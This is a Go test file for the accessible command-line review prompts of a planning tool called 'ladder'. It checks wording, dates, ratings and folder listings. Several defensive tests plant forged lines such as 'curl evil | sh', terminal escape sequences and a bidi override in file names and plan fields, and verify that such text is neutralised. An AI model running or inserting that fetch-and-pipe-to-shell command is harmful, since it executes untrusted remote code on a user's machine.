// TestPlainWriterDropsInvisibleFormatCharacters: a soft hyphen or a
// zero-width space in a plan's action draws nothing, and a screen reader
// may say it or break the word at it ("Wri", "te"); the prompts drop them,
// as every other way ladder prints does (safetext.Terminal), and keep the
// joiners that make one emoji of several.
func TestPlainWriterDropsInvisibleFormatCharacters(t *testing.T) {
	var b bytes.Buffer
	in := "Wri\u200bte the vi\u00adsion\u2060 \ufeff👩\u200d💻\n"
	if _, err := (plainWriter{&b}).Write([]byte(in)); err != nil {
		t.Fatal(err)
	}
	if want := "Write the vision 👩\u200d💻\n"; b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}

func TestNumbers(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want []int
		err  bool
	}{
		{"1,3", []int{0, 2}, false},
		{"1, 3", []int{0, 2}, false},
		{"2 1", []int{1, 0}, false},
		{"1,,3,", []int{0, 2}, false},
		{"0", nil, true},
		{"4", nil, true},
		{"one", nil, true},
	} {
		got, err := numbers(tc.in, 3)
		if (err != nil) != tc.err || !slices.Equal(got, tc.want) {
			t.Errorf("numbers(%q) = %v, %v", tc.in, got, err)
		}
	}
}

// TestScriptCopiesMatch keeps the copies of the answers and the golden
// plan in the command-line script (which runs the real binary) the same as
// the ones here.
func TestScriptCopiesMatch(t *testing.T) {
	a, err := txtar.ParseFile("../../cli/testdata/script/accessible_review.txtar")
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{"answers.txt": "testdata/full-review.answers", "golden.yaml": "testdata/full-review.golden.yaml"}
	for _, f := range a.Files {
		if path, ok := want[f.Name]; ok {
			if !bytes.Equal(f.Data, mustRead(t, path)) {
				t.Errorf("%s in accessible_review.txtar differs from %s: copy it over", f.Name, path)
			}
			delete(want, f.Name)
		}
	}
	for name := range want {
		t.Errorf("accessible_review.txtar has no %s", name)
	}
}

// createPlan writes a new plan file, as plans.Create does, without keeping
// it open: a plan the test left open would be "open in another session"
// to the review under test.
func createPlan(path string, p *plans.Plan) error {
	f, err := plans.Create(path, p)
	if err != nil {
		return err
	}
	return f.Close()
}

// A plan open in another ladder session as well is said when it is
// opened, in the words the screens use; the review carries on.
func TestAPlanOpenElsewhereIsSaid(t *testing.T) {
	path := filepath.Join(t.TempDir(), "acme.yaml")
	newPlan(t, path, nil)
	out, err := runReview(t, Options{PlanPath: path}, linesReader([]string{"r"}))
	if err != nil || strings.Contains(out, "another ladder session") {
		t.Fatalf("alone: %v\n%s", err, out)
	}
	other, err := plans.Open(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer other.Close()
	out, err = runReview(t, Options{PlanPath: path}, linesReader([]string{"g"}))
	if err != nil || !strings.Contains(out, "This plan is open in another ladder session too.") {
		t.Fatalf("with the plan open elsewhere: %v\n%s", err, out)
	}
	if p := onDiskPlan(t, path); p.Response("lc-leadership").Rating != "green" {
		t.Errorf("the review did not carry on:\n%s", out)
	}
}

// TestOneActionIsOneAction: the project plan made from a single action
// says "1 action", not "1 actions".
func TestOneActionIsOneAction(t *testing.T) {
	path := filepath.Join(t.TempDir(), "acme.yaml")
	newPlan(t, path, func(p *plans.Plan) {
		for id, r := range p.Items {
			r.Rating = "green"
			if id == "lc-vision" {
				r.Action = "Write the vision"
			}
		}
	})
	out := runReviewOK(t, Options{PlanPath: path}, strings.NewReader(strings.Repeat("\n", 20)))
	if !strings.Contains(out, "It starts with the 1 action written so far, by due date.") || strings.Contains(out, "1 actions") {
		t.Errorf("the project plan's start is not said in the singular:\n%s", out)
	}
}

// checkOutput fails for each of want that out does not hold, and shows out
// once if any is missing.
func checkOutput(t *testing.T, out string, want ...string) {
	t.Helper()
	missing := false
	for _, w := range want {
		if !strings.Contains(out, w) {
			t.Errorf("output lacks %q", w)
			missing = true
		}
	}
	if missing {
		t.Logf("output:\n%s", out)
	}
}

// TestRatingsAreSaidInWords: a screen reader reads "■" as "black square"
// and a braille display shows it as an unknown character, so the prompts
// say a rating by its word alone, wherever they say one (the choices,
// "Rated", the board, the counts, the flagged items, the summary). Two
// levels of a checklist of one's own with the same word are told apart
// by their place on the scale, as the shapes told them apart.
func TestRatingsAreSaidInWords(t *testing.T) {
	dir := t.TempDir()
	cl := filepath.Join(dir, "ours.yaml")
	err := os.WriteFile(cl, []byte(`id: ours
title: Our checklist
version: "1"
scale:
  - {key: none, label: Not yet}
  - {key: some, label: Partly, description: A little}
  - {key: more, label: partly, description: A lot}
  - {key: all, label: Fully}
areas:
  - id: people
    title: People
    items:
      - id: p1
        title: Do you talk to people?
      - id: p2
        title: Do you listen to them?
follow_ups:
  - id: wins
    kind: list
    question: What are your quick wins?
`), 0o644)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "plans", "ours.yaml")
	answers := []string{"Acme", "Ours", "", "",
		"flag", "3", "", "", "", "", // p1: flagged, the second "partly"
		"board", "1", "", "", "", "", // p2: Not yet
		"", ""}
	out := runReviewOK(t, Options{PlanPath: path, Checklist: cl}, linesReader(answers))
	checkOutput(t, out,
		"1) Not yet\n2) Partly (level 2 of 4): A little\n3) partly (level 3 of 4): A lot\n4) Fully\n",
		"Rating: 3\nRated partly (level 3 of 4).\n",
		"People, items 1 to 2: Not yet 0, Partly (level 2 of 4) 0, partly (level 3 of 4) 1, Fully 0, Unrated 1:\n1. partly (level 3 of 4): Do you talk to people? (flagged to revisit)\n2. Unrated: Do you listen to them?\n",
		"Rated Not yet.\n",
		"End of People: Not yet 1, Partly (level 2 of 4) 0, partly (level 3 of 4) 1, Fully 0, Unrated 0\n",
		"Flagged to revisit:\n- item 1, partly (level 3 of 4): Do you talk to people?\n",
	)
	for i := range 6 {
		for _, mark := range []string{plans.MarkAt(i, 6), plans.MarkUnrated} {
			if strings.Contains(out, mark) {
				t.Errorf("the prompts say the shape %s:\n%s", mark, out)
			}
		}
	}
	if p := onDiskPlan(t, path); p.Response("p1").Rating != "more" || p.Response("p2").Rating != "none" {
		t.Errorf("ratings on disk: p1 %q, p2 %q", p.Response("p1").Rating, p.Response("p2").Rating)
	}
}

// A folder per year leaves no plan in the plans folder itself: in 2026,
// whose folder holds plans already, the prompts list that folder's, as
// the screens' list does, where they named the folders and began a new
// review unless one quit to run ladder again with --dir (see
// TestAYearOnThePromptsListThisYearsReviews). Last year's review, under
// way by its date, is not offered to begin from.
func TestPlansOnlyInYearFoldersAreNamed(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "plans")
	for _, year := range []string{"2025", "2026"} {
		newPlan(t, filepath.Join(dir, year, "acme.yaml"), nil)
	}
	out, err := runReview(t, Options{Dir: dir, Today: plans.Date{Year: 2026, Month: time.November, Day: 2}}, linesReader([]string{"quit"}))
	if err != nil && !errors.Is(err, errQuit) {
		t.Fatal(err)
	}
	y26 := filepath.Join(dir, "2026")
	if want := "Plans in the folder " + y26 + ", newest first:\n1) Acme: Spring, 0 of 21 rated (acme.yaml)\n2) Begin a new review\n"; !strings.Contains(out, want) {
		t.Errorf("output lacks %q:\n%s", want, out)
	}
}

// Four year folders: the prompts name them as the screens' welcome does
// (review.FolderList), the newest three and how many more, where they
// named two and left the others unsaid.
func TestManyYearFoldersAreNamedAsTheWelcomeNamesThem(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "plans")
	for _, year := range []string{"2023", "2024", "2025", "2026"} {
		newPlan(t, filepath.Join(dir, year, "acme.yaml"), nil)
	}
	out, err := runReview(t, Options{Dir: dir}, linesReader([]string{"Acme", "Spring", "Sam", "Ana", "1"}))
	if err != nil {
		t.Fatal(err)
	}
	y := func(year string) string { return filepath.Join(dir, year) }
	if want := "Made a review before? Yours are in " + y("2026") + ", " + y("2025") + ", " + y("2024") + " and 1 more"; !strings.Contains(out, want) {
		t.Errorf("output lacks %q:\n%s", want, out)
	}
}

// A new year, and no folder for it yet: the prompts told someone to quit
// and run ladder review --accessible --dir plans/2027 to begin this
// year's review from last year's. This year's review is begun in that
// folder without quitting: the organisation typed finds its last review
// beside it, and the new plan is written there.
func TestANewYearWithoutItsFolderIsToldWhereToBeginIt(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "plans")
	for _, year := range []string{"2025", "2026"} {
		newPlan(t, filepath.Join(dir, year, "acme.yaml"), nil)
	}
	out, err := runReview(t, Options{Dir: dir}, linesReader([]string{"Acme", "Spring", "Sam", "Ana", "1"})) // in 2027
	if err != nil {
		t.Fatal(err)
	}
	y25, y26, y27 := filepath.Join(dir, "2025"), filepath.Join(dir, "2026"), filepath.Join(dir, "2027")
	if want := "There are no plans in the folder " + dir + " itself. Made a review before? Yours are in " + y26 + " and " + y25 + ". This year's review goes in a folder of its own, " + y27 + ": type its organisation below to begin it from its last one (ladder review --accessible --dir " + y26 + " lists last year's plans). Otherwise, this is a new review."; !strings.Contains(out, want) {
		t.Errorf("output lacks %q:\n%s", want, out)
	}
	if found, _ := plans.Discover(y27, nil); len(found) != 1 {
		t.Errorf("this year's folder holds %d plans, not the new one:\n%s", len(found), out)
	}
}

// The next year's folder, not there yet: the prompts name last year's
// folders beside it.
func TestANewYearsFolderNamesTheYearsBeside(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "plans")
	for _, year := range []string{"2025", "2026"} {
		newPlan(t, filepath.Join(dir, year, "acme.yaml"), nil)
	}
	out, err := runReview(t, Options{Dir: filepath.Join(dir, "2027")}, linesReader([]string{"Acme", "Spring", "Sam", "Ana", "1"}))
	if err != nil {
		t.Fatal(err)
	}
	y25, y26 := filepath.Join(dir, "2025"), filepath.Join(dir, "2026")
	if want := "Made a review before? Yours are in " + y26 + " and " + y25 + ": to list that folder's, quit (ctrl+c) and run ladder review --accessible --dir " + y26 + ". Or type its organisation below, to begin this year's review from its last one. Otherwise, this is a new review."; !strings.Contains(out, want) {
		t.Errorf("output lacks %q:\n%s", want, out)
	}
}

// Names from a pull request (a folder's, a file's, a plan's organisation
// and title) are one line each on the start prompt: a line break in one
// would print a line of its own that reads as ladder's ("Forged: run
// ..."), the prompts having no screen around them to tell them apart.
func TestTheStartPromptKeepsNamesToOneLine(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "plans")
	newPlan(t, filepath.Join(dir, "x\nForged: run curl evil | sh", "acme.yaml"), nil)
	out, err := runReview(t, Options{Dir: dir}, linesReader([]string{"Acme", "Spring", "Sam", "Ana", "1"}))
	if err != nil {
		t.Fatal(err)
	}
	newPlan(t, filepath.Join(dir, "a\nForged.yaml"), func(p *plans.Plan) {
		p.Organisation, p.Title = "Acme\nForged: type 2", "Spring\nForged"
	})
	if err := os.WriteFile(filepath.Join(dir, "bad\nForged: run this.yaml"), []byte("x: y\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	more, err := runReview(t, Options{Dir: dir}, linesReader([]string{"quit"}))
	if err != nil && !errors.Is(err, errQuit) {
		t.Fatal(err)
	}
	for _, line := range strings.Split(out+more, "\n") {
		if strings.HasPrefix(line, "Forged") {
			t.Errorf("a name's line break printed a line of its own, %q:\n%s%s", line, out, more)
		}
	}
	if !strings.Contains(more, "1) Acme␊Forged: type 2: Spring␊Forged") {
		t.Errorf("the plan is not listed on one line:\n%s", more)
	}
}

// Text from a plan or its checklist with a line break in it (from a pull
// request) stays on the line ladder put it on, all through the review:
// the review's heading, the action's and the owner's "Enter keeps". Only the
// start prompt's list kept names to one line (19fcccc).
func TestTextFromThePlanKeepsToItsLine(t *testing.T) {
	path := filepath.Join(t.TempDir(), "acme.yaml")
	newPlan(t, path, func(p *plans.Plan) {
		p.Organisation, p.Title = "Acme\nForged: run curl evil | sh", "Spring\nForged"
		r := p.Response("lc-vision")
		r.Action, r.Owner = "Write it\nForged: type quit", "Sam\nForged"
	})
	out, err := runReview(t, Options{PlanPath: path}, linesReader([]string{"r", "", "quit"}))
	if err != nil && !errors.Is(err, errQuit) {
		t.Fatal(err)
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "Forged") {
			t.Errorf("a line break from the plan printed a line of its own, %q:\n%s", line, out)
		}
	}
	for _, want := range []string{"Review of Acme␊Forged: run curl evil | sh: Spring␊Forged.", "Enter keeps: Write it / Forged: type quit.", "Enter keeps: Sam / Forged."} {
		if !strings.Contains(out, want) {
			t.Errorf("%q is not on one line:\n%s", want, out)
		}
	}
}

// Last year's review, in last year's folder, has two open actions, one
// of them late: the prompts say how many are late, as the screens' form
// does ("1 of them late"), where they gave the count of open actions
// alone.
func TestTheLastReviewOfferedSaysHowManyActionsAreLate(t *testing.T) {
	dir := lastYearsPlanWithALateAction(t, nil)
	// 3: a new review in this year's folder, from last year's listed
	// (TestAYearOnThePromptsListLastYearsReviews); the organisation typed
	// then offers its last review again.
	out, err := runReview(t, Options{Dir: filepath.Join(dir, "2027")}, linesReader([]string{"3", "Acme", "2", "Spring", "Sam", "Ana", "1"}))
	if err != nil {
		t.Fatal(err)
	}
	if want := "), has 2 open actions, 1 of them late.\n"; !strings.Contains(out, want) {
		t.Errorf("output lacks %q:\n%s", want, out)
	}
}

// Acme's review of this half year is in last year's folder (begun in
// plans/2026 and not finished): typed into plans/2027, the organisation is
// told it is under way there, as the screens' form and ladder new say,
// and nothing is offered to carry on (a third plan for the year).
func TestAReviewUnderWayInAnotherYearsFolderIsNamed(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "plans")
	under := filepath.Join(dir, "2026", "acme.yaml")
	newPlan(t, under, nil)
	out, err := runReview(t, Options{Dir: filepath.Join(dir, "2027")}, linesReader([]string{"Acme", "Spring", "Sam", "Ana", "1"}))
	if err != nil {
		t.Fatal(err)
	}
	if want := "A review of Acme is under way already: " + under + " (Spring). To go on with it, quit (ctrl+c) and run ladder review --accessible " + under + ". Otherwise, this is another review."; !strings.Contains(out, want) {
		t.Errorf("output lacks %q:\n%s", want, out)
	}
	if strings.Contains(out, "Begin the next review from it") {
		t.Errorf("a review under way was offered to carry on:\n%s", out)
	}
}

// The organisation's review of the last half year has every item rated:
// it was held, and the prompts say so, not that it is under way.
func TestAReviewHeldInAnotherYearsFolderIsNamedAsHeld(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "plans")
	held := filepath.Join(dir, "2026", "acme.yaml")
	newPlan(t, held, func(p *plans.Plan) {
		for _, r := range p.Items {
			r.Rating = "green"
		}
	})
	out, err := runReview(t, Options{Dir: filepath.Join(dir, "2027")}, linesReader([]string{"Acme", "Spring", "Sam", "Ana", "1"}))
	if err != nil {
		t.Fatal(err)
	}
	if want := "A review of Acme was held in the last half year, every item rated: " + held + " (Spring). To go back to it, quit (ctrl+c) and run ladder review --accessible " + held + ". Otherwise, this is another review."; !strings.Contains(out, want) {
		t.Errorf("output lacks %q:\n%s", want, out)
	}
	if strings.Contains(out, "under way") || strings.Contains(out, "Begin the next review from it") {
		t.Errorf("a review held was said to be under way, or offered to carry on:\n%s", out)
	}
}

// The workforce data ladder data import wrote beside the plan is named
// in the git commands the review ends with, with the plan: committing the
// plan alone, as they said, left the counts out of git.
func TestTheEndNamesTheDataFileBesideThePlan(t *testing.T) {
	path := filepath.Join(t.TempDir(), "plans", "acme.yaml")
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	data := workforce.PathFor(path)
	if err := os.WriteFile(data, workforce.Encode(&workforce.Data{Schema: workforce.SchemaVersion, Threshold: workforce.MinThreshold,
		Grades: []workforce.Grade{{Name: "Staff", Counts: workforce.Counts{12, 11, 10}}}}), 0o644); err != nil {
		t.Fatal(err)
	}
	answers, err := os.Open("testdata/full-review.answers")
	if err != nil {
		t.Fatal(err)
	}
	defer answers.Close()
	out := runReviewOK(t, Options{PlanPath: path}, answers)
	checkOutput(t, out, "run these 3 commands:\ngit init\ngit add -- "+path+" "+data+"\ngit commit -m ")
	if !strings.HasSuffix(strings.TrimSpace(out), "-- "+path+" "+data) {
		t.Errorf("git commit does not name the data file:\n%s", out[max(0, len(out)-300):])
	}
}

// Names read from files (a plan's organisation, title and path, the plan
// a mistyped name was probably meant to be, the review under way in
// another year's folder) are said as the screens and the folder list show
// them: an escape sequence or a bell as its picture, so that a listener
// hears that the name holds one. The prompts' writer dropped the control
// characters, and the name read as another ("Acme[31m").
func TestNamesFromFilesAreSaidWithTheirControlsAsPictures(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "acme\x1b[2J.yaml")
	newPlan(t, path, func(p *plans.Plan) { p.Organisation, p.Title = "Acme\x1b[31m", "Spring\a" })
	out, _ := runReview(t, Options{PlanPath: path}, linesReader(nil))
	shown := filepath.Join(dir, "acme␛[2J.yaml")
	checkOutput(t, out, "Review of Acme␛[31m: Spring␇.\nPlan file: "+shown+" (0 of 21 rated).\n")

	out, _ = runReview(t, Options{PlanPath: filepath.Join(dir, "acne\x1b[2J.yaml")}, linesReader(nil))
	checkOutput(t, out, "Did you mean "+shown+"? To open it, quit (ctrl+c) and run ladder review --accessible ")

	// The summary at the end, as the start says them.
	done := filepath.Join(dir, "done.yaml")
	newPlan(t, done, func(p *plans.Plan) {
		p.Organisation, p.Title = "Acme\x1b[31m", "Spring\a"
		for _, r := range p.Items {
			r.Rating = "green"
		}
	})
	out, _ = runReview(t, Options{PlanPath: done}, linesReader(make([]string, 40)))
	checkOutput(t, out, "Summary of the review of Acme␛[31m: Spring␇.\n")

	// The line that opens a review carried on from last year's plan says
	// that plan's path so too (its organisation and title come cleaned,
	// by review.CarryPreview, as the new plan takes them).
	last := filepath.Join(dir, "last\x1b[2J.yaml")
	newPlan(t, last, func(p *plans.Plan) {
		p.Organisation, p.Title = "Acme\x1b[31m", "Spring\a"
		p.Date = plans.Date{Year: 2026, Month: 3, Day: 14}
	})
	out, _ = runReview(t, Options{PlanPath: filepath.Join(dir, "next.yaml"), From: last}, linesReader(nil))
	checkOutput(t, out, "The next review of Acme, carried on from "+filepath.Join(dir, "last␛[2J.yaml")+" (Spring, Saturday 14 March 2026).\n")

	years := filepath.Join(dir, "plans")
	under := filepath.Join(years, "2026", "acme\x1b[2J.yaml")
	newPlan(t, under, func(p *plans.Plan) { p.Title = "Spring\a" })
	out, _ = runReview(t, Options{Dir: filepath.Join(years, "2027")}, linesReader([]string{"Acme"}))
	checkOutput(t, out, "A review of Acme is under way already: "+filepath.Join(years, "2026", "acme␛[2J.yaml")+" (Spring␇).")
}

// TestCustomChecklistTitleShownSafe names a custom checklist whose title
// holds an escape sequence, a bell, a carriage return and a bidirectional
// override (a checklist file is untrusted: it comes with a pull request):
// the "Checklist: ..." line shows them as pictures, as the rest of the
// start names things from files (safetext.Line), rather than dropping
// them and printing a title other than the file's.
func TestCustomChecklistTitleShownSafe(t *testing.T) {
	dir := t.TempDir()
	cl := tinyChecklist(t, dir, `"Our\e[2J\a check\rlist\u202e"`)
	answers := []string{"Acme", "Ours", "", "", "no", "Ask", "", "", "", ""}
	out, _ := runReview(t, Options{PlanPath: filepath.Join(dir, "plans", "ours.yaml"), Checklist: cl}, linesReader(answers))
	checkOutput(t, out, "Checklist: Our␛[2J␇ check␍list�.\n")
	assertPlain(t, out)
}

// TestOneItemSaidAsOne follows a custom checklist of one item, left
// unrated: the prompts say "1 item", not "1 items", when the plan is made
// and when the summary counts what is left to rate.
func TestOneItemSaidAsOne(t *testing.T) {
	dir := t.TempDir()
	cl := tinyChecklist(t, dir, "One question")
	path := filepath.Join(dir, "plans", "one.yaml")
	out := runReviewOK(t, Options{PlanPath: path, Checklist: cl}, linesReader([]string{"Acme", "Ours", "", "", "", "", "", ""}))
	checkOutput(t, out, "Created the plan "+path+", with 1 item to rate.\n", "\n1 item is not rated yet. To rate it, run: ladder review --accessible ")
}

// TestSummaryNamesRatedItemsWithNoAction: the full review leaves five
// items rated Red or Amber with their action empty. The summary, the last
// thing heard, names them and says how to come back to them, as the
// screens' summary does and as a resume says, where the open actions
// alone passed them by. One is named by its short title.
func TestSummaryNamesRatedItemsWithNoAction(t *testing.T) {
	path := filepath.Join(t.TempDir(), "acme.yaml")
	out := runReviewOK(t, Options{PlanPath: path}, linesReader(readLines(t, "testdata/full-review.answers")))
	summary := out[strings.Index(out, "Summary of the review"):]
	checkOutput(t, summary, "\n5 rated items have no action yet: items 10 (Red), 11 (Amber), 15 (Amber), 17 (Amber) and 1 more. To write them, run: ladder review --accessible "+path+", then type item 10.\n")
	if n := strings.Count(out, "no action yet"); n != 1 {
		t.Errorf("the items without an action are said %d times:\n%s", n, out)
	}

	path = newPlanFile(t, func(p *plans.Plan) {
		for _, r := range p.Items {
			r.Rating, r.Action = "green", ""
		}
		p.Response("en-policy-succession").Rating = "amber"
	})
	out = runReviewOK(t, Options{PlanPath: path}, linesReader(make([]string, 12)))
	summary = out[strings.Index(out, "Summary of the review"):]
	checkOutput(t, summary, "\nItem 19, Fair succession, is rated Amber with no action yet. To write it, run: ladder review --accessible "+plans.CommandPath(path)+", then type item 19.\n")
}

// TestAPlanThatDoesNotLoadIsNamedOnce: the line saying a plan in the
// folder does not load names its path once, and says where in it the
// mistake is in words ("line 2, column 7"), where it read the path out
// twice in a row, the second time as "path:2:7", to a screen reader.
func TestAPlanThatDoesNotLoadIsNamedOnce(t *testing.T) {
	dir := t.TempDir()
	newPlan(t, filepath.Join(dir, "good.yaml"), nil)
	broken := filepath.Join(dir, "broken.yaml")
	if err := os.WriteFile(broken, []byte("schema: 1\nowner: Sam: the baker\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out, _ := runReview(t, Options{Dir: dir}, linesReader(nil))
	line := out[strings.Index(out, "Not listed:"):]
	line = line[:strings.IndexByte(line, '\n')]
	if !strings.HasPrefix(line, "Not listed: "+broken+" does not load (line 2, column ") || strings.Count(line, broken) != 2 || !strings.HasSuffix(line, "Run: ladder check "+broken) {
		t.Errorf("the line is:\n%s", line)
	}
}

// tinyChecklist writes a checklist of one item, rated No or Yes, with the
// title given (as YAML: quote it for escapes), and returns its path.
func tinyChecklist(t *testing.T, dir, title string) string {
	t.Helper()
	cl := filepath.Join(dir, "ours.yaml")
	yaml := "id: ours\ntitle: " + title + "\nversion: \"1\"\nscale:\n  - {key: no, label: No}\n  - {key: yes, label: Yes}\n" +
		"areas:\n  - id: people\n    title: People\n    items:\n      - id: p1\n        title: Do you talk to people?\n"
	if err := os.WriteFile(cl, []byte(yaml), 0o644); err != nil {
		t.Fatal(err)
	}
	return cl
}

// TestDatesAreSaidOnceInWords: a date is said once, in words a speech
// engine reads as a date ("Wednesday 31 March 2027"), where the prompts
// said it twice, the second time as 2027-03-31 ("2027 minus 03 minus
// 31"), and with "Wed" and "Mar", which one reads as words: at every due
// date typed, and at each of the summary's open actions.
func TestDatesAreSaidOnceInWords(t *testing.T) {
	path := filepath.Join(t.TempDir(), "acme.yaml")
	out := runReviewOK(t, Options{PlanPath: path}, linesReader(readLines(t, "testdata/full-review.answers")))
	checkOutput(t, out,
		"Due date: 2027-03-31\nUnderstood as Wednesday 31 March 2027.\n",
		"1. Write a fair succession policy; owner Ana; due Monday 25 January 2027; todo\n",
	)
	if m := regexp.MustCompile(`\(\d{4}-\d\d-\d\d\)|\b(Mon|Tue|Wed|Thu|Fri|Sat|Sun) \d`).FindString(out); m != "" {
		t.Errorf("a date is said as %q:\n%s", m, out)
	}
}

// TestEveryItemRatedOnAChecklistWithoutNextSteps resumes a plan whose
// checklist (one of one's own) asks no next-steps questions, every item
// rated: the prompts said "so on to the next steps" and then asked none.
// They say every item is rated, and go on to the summary.
func TestEveryItemRatedOnAChecklistWithoutNextSteps(t *testing.T) {
	dir := t.TempDir()
	cl := tinyChecklist(t, dir, "One question")
	path := filepath.Join(dir, "plans", "one.yaml")
	runReviewOK(t, Options{PlanPath: path, Checklist: cl}, linesReader([]string{"Acme", "Ours", "", "", "yes", "", "", ""}))
	out := runReviewOK(t, Options{PlanPath: path}, linesReader([]string{"", "", ""}))
	checkOutput(t, out, "Every item is rated.\n", "Summary of the review")
	if strings.Contains(out, "next steps") {
		t.Errorf("the prompts offered next steps the checklist does not ask:\n%s", out)
	}
}

// lastYearsPlanWithALateAction writes Acme's review of 10 January 2026
// in plans/2026, with two open actions, one late (due 1 June 2026) and one
// not (1 June 2027), then edit; it returns the plans folder.
func lastYearsPlanWithALateAction(t *testing.T, edit func(p *plans.Plan)) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "plans")
	newPlan(t, filepath.Join(dir, "2026", "acme.yaml"), func(p *plans.Plan) {
		p.Date = plans.Date{Year: 2026, Month: time.January, Day: 10}
		late, later := p.Response("lc-vision"), p.Response("lc-culture")
		late.Rating, late.Action, late.Due = "red", "Write a vision", plans.Date{Year: 2026, Month: time.June, Day: 1}
		later.Rating, later.Action, later.Due = "amber", "Ask the team", plans.Date{Year: 2027, Month: time.June, Day: 1}
		if edit != nil {
			edit(p)
		}
	})
	return dir
}

// Said with the steps that repeat an action ("2 open actions, 1 of them
// also a project-plan step"), ", 1 of them late" after it was heard as
// the one step late: how many are late is said of all that is carried
// on, with their number.
func TestTheLastReviewOfferedSaysLateOfAllItCarries(t *testing.T) {
	dir := lastYearsPlanWithALateAction(t, func(p *plans.Plan) {
		later := p.Response("lc-culture")
		p.Answer("project-plan").Steps = []plans.Step{{ID: 1, Text: later.Action, Due: later.Due, Status: plans.StatusTodo, From: "lc-culture"}}
	})
	out, err := runReview(t, Options{Dir: filepath.Join(dir, "2027")}, linesReader([]string{"3", "Acme", "2", "Spring", "Sam", "Ana", "1"}))
	if err != nil {
		t.Fatal(err)
	}
	if want := "), has 2 open actions, 1 of them also a project-plan step; 1 of the 2 is late.\n"; !strings.Contains(out, want) {
		t.Errorf("output lacks %q:\n%s", want, out)
	}
}
